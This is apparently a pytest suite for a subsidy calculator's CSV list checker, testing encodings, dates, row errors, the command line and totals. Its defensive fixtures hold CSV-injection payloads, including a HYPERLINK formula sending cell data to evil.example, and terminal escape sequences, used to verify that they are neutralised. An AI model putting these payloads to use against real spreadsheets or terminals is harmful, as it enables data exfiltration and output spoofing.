"""The list check (subsidy_calculator.lists): every case of policy/scenarios/lists.yaml, files as
Excel writes them, bad rows reported by row and column in the visitor's language, the command
line, and the promise that a list and the same counts typed into the calculator agree."""
from __future__ import annotations

import csv
import io
import json
import random
import subprocess
import sys
from typing import Any

import pytest

from policy_bundle import ROOT
from scripts.policy import read_policy
from subsidy_calculator.browser import check_list, load_rules
from subsidy_calculator.lists import MAX_BYTES, MAX_COLUMNS, MAX_ROWS, Lists, parse_date, result_csv

LIST_CASES = [c for d in read_policy(ROOT / "policy").scenarios if d.file == "scenarios/lists.yaml"
              for c in (d.data or {}).get("cases", [])]
DAY = "2026-11-26"
PLACEMENT_HEADERS = "姓名,人员类别,是否免费介绍,用人单位是否在本市,是否签订期限超过1年的劳动合同,是否按规定缴纳社会保险费"


@pytest.fixture(scope="module")
def lists(rules) -> Lists:
    return Lists(rules)


def check_case(lists: Lists, case: dict[str, Any]) -> None:
    """One case of scenarios/lists.yaml (also run in Pyodide by test_pyodide_parity.py)."""
    result = lists.check(case["csv"].encode("utf-8"), case["list"], case["answers"], case["date"], case.get("lang", "zh"))
    expect = case["expect"]
    if "rows" in expect:
        assert [r["status"] for r in result["rows"]] == expect["rows"], result["rows"]
    for question, count in (expect.get("counts") or {}).items():
        assert {c["question"]: c["count"] for c in result["counts"]}[question] == count
    got = [{k: p[k] for k in want} for p, want in zip(result["problems"], expect.get("problems") or [])]
    assert got == (expect.get("problems") or []) and len(result["problems"]) == len(expect.get("problems") or []), \
        result["problems"]
    items = {i["benefit_id"]: i for g in (result["totals"] or {}).get("groups", []) for i in g["items"]}
    items.update({i["benefit_id"]: i for m in (result["totals"] or {}).get("measures", []) for i in m["items"]})
    for want in expect.get("items") or []:
        item = items[want["benefit"]]
        for key in ("status", "amount", "amount_text"):
            if key in want:
                assert item[key] == want[key], (want["benefit"], key, item)
        if "not_met" in want:
            assert [r["text"] for r in item["reasons"] if r["met"] is False] == want["not_met"]
        if "left_out" in want:
            assert len(item["left_out"]) == (1 if want["left_out"] else 0)


def test_there_are_list_cases_for_every_list(lists) -> None:
    assert {c["list"] for c in LIST_CASES} == set(lists.specs)
    assert all(c.get("date") for c in LIST_CASES), "every list case pins its date"


@pytest.mark.parametrize("case", LIST_CASES, ids=[c["name"]["en"] for c in LIST_CASES])
def test_list_scenario(lists, case) -> None:
    check_case(lists, case)


def _placement_rows(rng: random.Random, n: int) -> list[list[str]]:
    return [[f"P{i}", rng.choice(["离校未就业高校毕业生", "城镇登记失业人员", "其他人员"]),
             *(rng.choice(["是", "否", "Y", "N", "yes", "no"]) for _ in range(4))] for i in range(n)]


@pytest.mark.parametrize("seed", range(40))
def test_list_and_calculator_never_disagree(lists, rules, seed: int) -> None:
    """The counts a list adds up to, typed into the calculator, give the very same totals."""
    rng = random.Random(seed)
    if seed % 2:
        spec, headers = "placements", PLACEMENT_HEADERS
        rows = _placement_rows(rng, rng.randint(0, 30))
        answers: dict[str, Any] = {"agency_qualified": rng.choice([True, False])}
        qualifying = sum(1 for r in rows if r[1] != "其他人员" and all(c in ("是", "Y", "yes") for c in r[2:]))
        free = sum(1 for r in rows if r[1] != "其他人员" and r[2] in ("是", "Y", "yes"))
        typed = {"role": "hr_agency", **answers, "placements_free": free, "placements_qualifying": qualifying}
    else:
        spec, headers = "graduate-hires", "是否高校毕业生,是否在毕业年度或择业期内招用"
        rows = [[rng.choice("是否"), rng.choice("是否")] for _ in range(rng.randint(0, 30))]
        answers = {"enterprise_size": rng.choice(["micro", "small", "medium", "large"])}
        typed = {"role": "enterprise", **answers, "graduates_hired": sum(1 for r in rows if r == ["是", "是"])}
    text = "\n".join([headers, *(",".join(r) for r in rows)])
    result = lists.check(text.encode("utf-8"), spec, answers, DAY, "zh")
    if not rows:
        assert result["problems"][0]["code"] == "no_rows"
        return
    assert result["answers"] == typed
    single = rules.evaluate(typed, DAY, "zh")
    shown = {m["id"] for m in result["totals"]["measures"]}
    assert [m for m in single["measures"] if m["id"] in shown] == result["totals"]["measures"]
    for group in result["totals"]["groups"]:
        same = next(g for g in single["groups"] if g["recipient"] == group["recipient"])
        assert group["total_text"] == same["total_text"]
        assert group["items"] == [i for i in same["items"] if i["measure_id"] in shown]


ROWS = ["张三,离校未就业高校毕业生,是,是,是,是", "李四,城镇登记失业人员,否,是,是,是"]


@pytest.mark.parametrize(("encoding", "bom", "sep"), [
    ("utf-8", b"", ","), ("utf-8", b"\xef\xbb\xbf", ","), ("gb18030", b"", ","), ("gbk", b"", "\t"),
    ("utf-16-le", b"\xff\xfe", "\t"), ("utf-8", b"", ";"),
])
def test_files_as_excel_saves_them(lists, encoding: str, bom: bytes, sep: str) -> None:
    text = "\r\n".join([PLACEMENT_HEADERS, *ROWS]).replace(",", sep) + "\r\n"
    result = lists.check(bom + text.encode(encoding), None, {"agency_qualified": True}, DAY, "zh")
    assert result["list"] == "placements" and not result["problems"], result["problems"]
    assert [r["status"] for r in result["rows"]] == ["counted", "not_counted"]
    assert result["rows"][1]["reasons"] == ["未满足条件：免费介绍成功就业"]
    assert result["totals"]["groups"][0]["total_text"] == "311元"


def test_template_reads_back_with_both_languages(lists) -> None:
    template = lists.template("placements", DAY)
    assert template.startswith("\ufeff姓名 / Name,人员类别 / Category,")
    filled = template + "甲,Registered unemployed person,true,TRUE,y,是\r\n"
    result = lists.check(filled.encode("utf-8"), None, {"agency_qualified": True}, DAY, "en")
    assert [r["status"] for r in result["rows"]] == ["counted"] and result["rows"][0]["reasons"] == \
        ["Counts toward: Job placement subsidy"]


@pytest.mark.parametrize(("text", "iso"), [
    ("2026/3/1", "2026-03-01"), ("2026-03-01", "2026-03-01"), ("2026年3月1日", "2026-03-01"),
    ("2026/3/1 0:00", "2026-03-01"), ("46082", "2026-03-01"), ("2026.3.1", "2026-03-01"),
    ("2026/2/30", None), ("3/1/2026", None), ("12", None), ("tomorrow", None),
])
def test_dates_as_excel_writes_them(text: str, iso: str | None) -> None:
    assert parse_date(text) == iso


@pytest.mark.parametrize(("lang", "message"), [
    ("zh", "第3行“是否免费介绍”：“maybe”不是“是”或“否”"),
    ("en", "Row 3, “是否免费介绍”: “maybe” is not yes or no"),
])
def test_bad_row_named_by_row_and_column_the_rest_checked(lists, lang: str, message: str) -> None:
    text = "\n".join([PLACEMENT_HEADERS, ROWS[0], "王五,城镇登记失业人员,maybe,是,是,是", ROWS[0], ",,,,,"])
    result = lists.check(text.encode("utf-8"), None, {"agency_qualified": True}, DAY, lang)
    assert [p["message"] for p in result["problems"]] == [message]
    assert [(r["row"], r["status"]) for r in result["rows"]] == [(2, "counted"), (3, "error"), (4, "counted")]
    assert any("1" in line for line in result["summary"] if "空行" in line or "empty" in line)   # not silently dropped
    assert result["totals"]["groups"][0]["total"] == 622


@pytest.mark.parametrize(("data", "code"), [
    (b"PK\x03\x04rest", "xlsx"), (b"\xd0\xcf\x11\xe0rest", "xls"), (b"", "empty"), (b"   \r\n", "empty"),
    ("姓名,年龄\n张三,1".encode(), "unknown_list"), (PLACEMENT_HEADERS.encode(), "no_rows"),
    (b"a" * (MAX_BYTES + 1), "too_large"), (("\n".join([PLACEMENT_HEADERS, '"unclosed\x00'])).encode(), "not_text"),
])
def test_files_that_cannot_be_checked_say_why(lists, data: bytes, code: str) -> None:
    result = lists.check(data, None, {}, DAY, "zh")
    assert [p["code"] for p in result["problems"]] == [code] and result["problems"][0]["message"]
    assert result["rows"] == []


def test_results_csv_keeps_every_column(lists) -> None:
    text = "\n".join([PLACEMENT_HEADERS + ",备注", ROWS[0] + ",甲,extra"])
    result = lists.check(text.encode("utf-8"), None, {"agency_qualified": True}, DAY, "zh")
    lines = result_csv(result).removeprefix("\ufeff").splitlines()
    assert lines[0] == PLACEMENT_HEADERS + ",备注,,行号,检查结果,计入,说明"
    assert lines[1].startswith(ROWS[0] + ",甲,extra,2,有错误，未计入,")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B2,"点此核对")', "=1+1", "+86 138 0013 8000", "@王经理 跟进",
            "-2+3", "\tx", "\r=1"]


def _formula_list() -> bytes:
    """A placements list whose names and extra column hold what Excel would run as formulas."""
    rows = [PLACEMENT_HEADERS + ",备注"]
    for i, cell in enumerate(FORMULAS):
        quoted = '"' + cell.replace('"', '""') + '"'
        rows.append(f"{quoted},城镇登记失业人员,是,是,是,是,{quoted if i % 2 else '跟进'}")
    rows.append("=SUM(1),城镇登记失业人员,是,否,是,是,@备注")
    return "\r\n".join(rows).encode("utf-8")


def _no_cell_runs_as_a_formula(csv_text: str) -> list[str]:
    """Every cell of the results file as Excel reads it: none starts as a formula; returns them."""
    cells = [c for row in csv.reader(io.StringIO(csv_text.removeprefix("\ufeff"), newline="")) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return cells


def test_results_csv_shows_formulas_as_text(lists) -> None:
    """OWASP CSV injection: a cell that starts with =, +, -, @, tab or carriage return is written with
    a leading ', which Excel shows as text; the phone number and the name stay readable."""
    result = lists.check(_formula_list(), None, {"agency_qualified": True}, DAY, "zh")
    assert len(result["rows"]) == len(FORMULAS) + 1
    cells = _no_cell_runs_as_a_formula(result_csv(result))
    for cell in FORMULAS + ["=SUM(1)", "@备注"]:
        assert "'" + cell in cells, cell
    assert "'+86 138 0013 8000" in cells and "'@王经理 跟进" in cells and "城镇登记失业人员" in cells


def test_too_many_columns_are_cut_at_excels_limit_and_said(lists, rules) -> None:
    """A list with a million columns: the first 16,384 (Excel's) are read, the summary says so, and
    the page is sent only the list's own columns to draw (the results file keeps the rest)."""
    wide = ",".join(f"c{i}" for i in range(1_000_000 - 6))
    text = "\n".join([PLACEMENT_HEADERS + "," + wide, ROWS[0]]).encode("utf-8")
    result = lists.check(text, None, {"agency_qualified": True}, DAY, "en")
    assert len(result["header"]) == MAX_COLUMNS and [r["status"] for r in result["rows"]] == ["counted"]
    assert "The file has 1,000,000 columns; only the first 16,384 (as many as an Excel sheet holds) were read." \
        in " ".join(result["summary"])
    assert any(line.endswith(", and 16,358 more.") for line in result["summary"])  # 20 named
    load_rules(json.dumps(rules.bundle))
    sent = json.loads(check_list(text, json.dumps({"answers": {"agency_qualified": True}, "on": DAY, "lang": "en",
                                                   "show_rows": 10})))
    assert sent["header"] == PLACEMENT_HEADERS.split(",") and len(sent["rows"][0]["cells"]) == 6
    assert sent["csv"].splitlines()[0].count(",") == MAX_COLUMNS + 3


def test_long_cells_and_row_counts_are_reported_as_they_are(lists) -> None:
    long_name = "张" * 200_000  # above csv's default field limit (131,072)
    result = lists.check("\n".join([PLACEMENT_HEADERS, long_name + ROWS[0][2:]]).encode("utf-8"), None,
                         {"agency_qualified": True}, DAY, "zh")
    assert not result["problems"] and result["rows"][0]["cells"][0] == long_name
    many = "\n".join([PLACEMENT_HEADERS] + [ROWS[0]] * (MAX_ROWS + 2) + ["", ",,,"]).encode("utf-8")
    result = lists.check(many, None, {}, DAY, "en")
    assert [p["message"] for p in result["problems"]] == [
        f"The list has {MAX_ROWS + 2:,} rows, more than the limit of {MAX_ROWS:,}. Split it into several files and check each."]


def test_command_line_prints_the_same_result(tmp_path, lists) -> None:
    bundle = tmp_path / "rules.json"
    from policy_bundle import build_test_bundle
    bundle.write_text(json.dumps(build_test_bundle(), ensure_ascii=False), encoding="utf-8")
    placements = tmp_path / "placements.csv"
    placements.write_bytes("\n".join([PLACEMENT_HEADERS, *ROWS]).encode("gb18030"))
    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "subsidy_calculator", "list", str(placements), "--rules",
                               str(bundle), "--on", DAY, *args], capture_output=True, text=True,
                              cwd=ROOT, env={"PYTHONPATH": str(ROOT / "calculator" / "src")})
    text = run("--lang", "zh", "--answer", "agency_qualified=是")
    assert text.returncode == 0, text.stderr
    assert "1人 × 311元 = 311元" in text.stdout and "未满足条件：免费介绍成功就业" in text.stdout
    out = tmp_path / "out.csv"
    assert run("--format", "csv", "--out", str(out)).returncode == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    api = lists.check(placements.read_bytes(), None, {}, DAY, "zh")
    assert out.read_bytes().decode("utf-8") == result_csv(api)
    # a list with formulas and control characters: the results file shows them as text, the
    # terminal gets them escaped (not a cleared screen or a new window title)
    placements.write_bytes(_formula_list().replace("跟进".encode(), b"\x1b[2J\x1b]0;title\x07"))
    assert run("--format", "csv", "--out", str(out)).returncode in (0, 1)
    _no_cell_runs_as_a_formula(out.read_bytes().decode("utf-8"))
    placements.write_bytes("\n".join([PLACEMENT_HEADERS, "\x1b[2J王五\u202e" + ROWS[0][2:]]).encode("utf-8"))
    shown = run("--lang", "zh", "--answer", "agency_qualified=是").stdout
    assert "\\x1b[2J王五\\u202e" in shown and "\x1b" not in shown and "\u202e" not in shown
    placements.write_bytes("\n".join([PLACEMENT_HEADERS, *ROWS]).encode("gb18030"))
    as_json = json.loads(run("--format", "json", "--lang", "en").stdout)
    assert as_json["totals"] == json.loads(json.dumps(lists.check(placements.read_bytes(), None, {}, DAY, "en")["totals"]))


def test_english_errors_name_the_options_in_both_languages_and_reasons_read_apart(lists) -> None:
    """An English reader of a list filled in Chinese sees the Chinese options too; in the results
    file a row's reasons are separate sentences, not run together."""
    text = "\r\n".join([PLACEMENT_HEADERS, "张三,毕业生,是,是,是,是", "李四,城镇登记失业人员,,是,是,是"]) + "\r\n"
    result = lists.check(text.encode("utf-8"), None, {"agency_qualified": True}, DAY, "en")
    bad = next(p["message"] for p in result["problems"] if p.get("row") == 2)
    assert "“毕业生” is not one of: " in bad and "(离校未就业高校毕业生)" in bad, bad
    rows = list(csv.reader(io.StringIO(result_csv(result).lstrip("\ufeff"))))
    assert rows[2][-1] == ("Row 3, “是否免费介绍”: this cell must be filled in; "
                           "Correct this row and check the list again."), rows[2][-1]
